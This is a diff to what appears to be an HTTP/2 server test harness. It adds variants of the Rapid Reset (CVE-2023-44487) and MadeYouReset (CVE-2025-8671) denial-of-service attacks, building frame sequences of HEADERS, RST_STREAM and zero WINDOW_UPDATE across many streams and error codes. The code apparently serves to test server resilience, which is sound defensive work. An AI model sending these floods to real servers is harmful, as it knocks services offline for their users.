@@ -87,12 +87,26 @@ def once(frames, count):
     return chunks
 
 
-def reset(stream):
-    return frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+# All of RFC 9113 §7, and some that nobody has defined.
+RESET_CODES = [*range(14), 0xe, 0xff, 0x7fffffff, 0xffffffff]
+
+
+def reset(stream, code=0x8):
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + frame(RST_STREAM, 0, stream, code.to_bytes(4, "big"))
+
+
+def code_of(stream):
+    """Another one for each stream in turn."""
+    return RESET_CODES[stream // 2 % len(RESET_CODES)]
 
 
 def ask(stream, block=REQUEST, flags=END_HEADERS | END_STREAM):
     return frame(HEADERS, flags, stream, block)
+
+
+def made_reset(stream):
+    """A request, and a mistake for which its stream is reset (RFC 9113 §6.9)."""
+    return ask(stream, flags=END_HEADERS) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
 
 
 @functools.cache
@@ -121,8 +135,13 @@ class Attack:
 
 ATTACKS = {
     "rapid reset": Attack("rapid_reset", on_streams(reset, 2), what="CVE-2023-44487"),
+    "rapid reset, NO_ERROR": Attack("rapid_reset", on_streams(lambda s: reset(s, 0), 2), what="CVE-2023-44487"),
+    "rapid reset, every code": Attack(
+        "rapid_reset", on_streams(lambda s: reset(s, code_of(s)), 2), what="CVE-2023-44487"),
+    "made you reset, NO_ERROR between": Attack(
+        "made_you_reset", on_streams(lambda s: made_reset(s) if s % 4 == 1 else reset(s, 0), 2), what="CVE-2025-8671"),
     "made you reset": Attack(
-        "made_you_reset", on_streams(lambda s: ask(s, flags=END_HEADERS) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"), 2),
+        "made_you_reset", on_streams(made_reset, 2),
         what="CVE-2025-8671"),
     "streams beyond the limit": Attack(
         "made_you_reset", on_streams(lambda s: ask(s, GET_LARGE), 1),
